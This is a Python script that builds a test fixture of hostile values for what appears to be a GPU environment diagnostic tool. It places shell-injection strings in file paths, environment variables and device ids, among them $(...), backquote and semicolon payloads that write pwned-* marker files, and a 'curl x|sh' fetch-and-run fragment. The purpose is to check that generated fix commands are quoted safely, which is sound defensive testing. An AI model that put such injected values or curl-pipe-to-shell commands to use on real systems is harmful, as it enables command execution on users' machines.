"""Build tests/fixtures/snapshots/hostile-values.json: tests.machines.h100_old_driver with hostile values.

Run from the repository root: `PYTHONPATH=. python scripts/make_hostile_snapshot.py`. Every path and environment
value that reaches a fix command carries $(...), backquotes, ;, quotes, spaces or a newline, each of which would
leave a pwned-* file in the working directory if a pasted command ran it (tests/unit/remedies/test_remedies.py)."""
import json
from dataclasses import replace

from envdoctor.model.facts import DataPath, LibraryCopy, Package, ProbeStatus, Storage, Toolkits, XidEvent
from tests import machines as m

DOLLAR = "$(echo pwned >pwned-dollar)"
TICK = "`echo pwned >pwned-tick`"
SEMI = ";echo pwned >pwned-semi;"
QUOTES = "it's \"quoted\""
NEWLINE = "line\necho pwned >pwned-newline"

base = m.h100_old_driver()
py0 = base.pythons[0]
evil_dir = f"/opt/evil {DOLLAR}"
py0 = replace(
    py0,
    executable=f"/opt/my venv/{DOLLAR}/{TICK}/bin/python",
    packages=list(py0.packages) + [Package("nvidia-cudnn-cu12", "8.9.2.26")],
    env={"LD_LIBRARY_PATH": f"/usr/lib/x86_64-linux-gnu{SEMI}curl x|sh:{evil_dir}",
         "CUDA_HOME": f"/usr/local/cuda {DOLLAR}"},
    loaded_libraries=[LibraryCopy("cudnn", f"{evil_dir}/libcudnn.so.9", "9.1.0", "system")],
)
py1 = replace(
    py0,
    executable=f"/opt/other {QUOTES}/bin/python",
    env={"LD_LIBRARY_PATH": f"/opt/a\n{NEWLINE}:{evil_dir}"},
)
paths = [
    DataPath(path=f"/data/my set {DOLLAR} {TICK} {QUOTES}{SEMI}", status=ProbeStatus.OK, exists=True,
             mount_point=f"/data/mnt {TICK}", fstype="nfs4", kind="network", mount_source="srv:/export",
             free_bytes=1024**3, size_bytes=100 * 1024**3),
    DataPath(path=f"/scratch/{QUOTES} {DOLLAR}", status=ProbeStatus.OK, exists=True, mount_point="/scratch",
             fstype="ext4", kind="local", block_device="vda", rotational=True, transport="virtio"),
    DataPath(path=f"/nl/{NEWLINE}", status=ProbeStatus.OK, exists=True, mount_point="/nl", fstype="fuse.s3fs",
             kind="fuse"),
]
drv = replace(base.driver, xid_events=[XidEvent(code=13, pci_bus_id=f"0000:3b:00'{SEMI}'"),
                                         XidEvent(code=31, pci_bus_id=f"0000:18:00 {DOLLAR}")],
              kernel_log_readable=True, kernel_log_source="dmesg")
facts = replace(base, pythons=[py0, py1], driver=drv,
                storage=Storage(status=ProbeStatus.OK, paths=paths),
                host=replace(base.host, env={"CUDA_VISIBLE_DEVICES": f"0{SEMI}", "NCCL_SOCKET_IFNAME": DOLLAR},
                             virtualization="kvm"),
                toolkits=Toolkits(status=ProbeStatus.ABSENT, reason="no nvcc", cuda_home_env=f"/usr/local/cuda{SEMI}"))
d = facts.to_dict()
d["collected_at"] = "2026-11-30T12:00:00Z"
with open("tests/fixtures/snapshots/hostile-values.json", "w", encoding="utf-8") as fh:
    json.dump(d, fh, indent=2, sort_keys=True)
    fh.write("\n")
